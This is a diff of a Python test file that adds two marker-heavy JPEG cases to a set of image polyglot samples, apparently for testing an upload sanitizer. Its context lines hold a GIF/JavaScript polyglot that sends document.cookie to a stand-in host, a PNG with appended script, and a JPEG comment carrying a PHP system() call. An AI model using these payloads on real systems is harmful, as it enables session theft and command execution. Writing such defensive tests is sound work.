@@ -249,6 +249,10 @@ IMAGES: dict[str, Case] = {
         lambda: encode(IMAGE, "GIF") + b"*/=1;fetch('http://a/'+document.cookie)//"
     ),
     "PNG and page": Case(WHOLE_PNG + b"<html><script>alert(1)</script>"),
+    "JPEG and a film that has bytes like markers": Case(JPEG + b"\xff\xda\xff\xe1" * 1000),
+    "JPEG with a comment that has bytes like markers": Case(
+        insert_segments(JPEG, [(0xFE, b"\xff\xda\xff\xe1" * 1000)])
+    ),
     "JPEG with a script as comment": Case(
         insert_segments(JPEG, [(0xFE, b"<?php system('id'); ?>")])
     ),
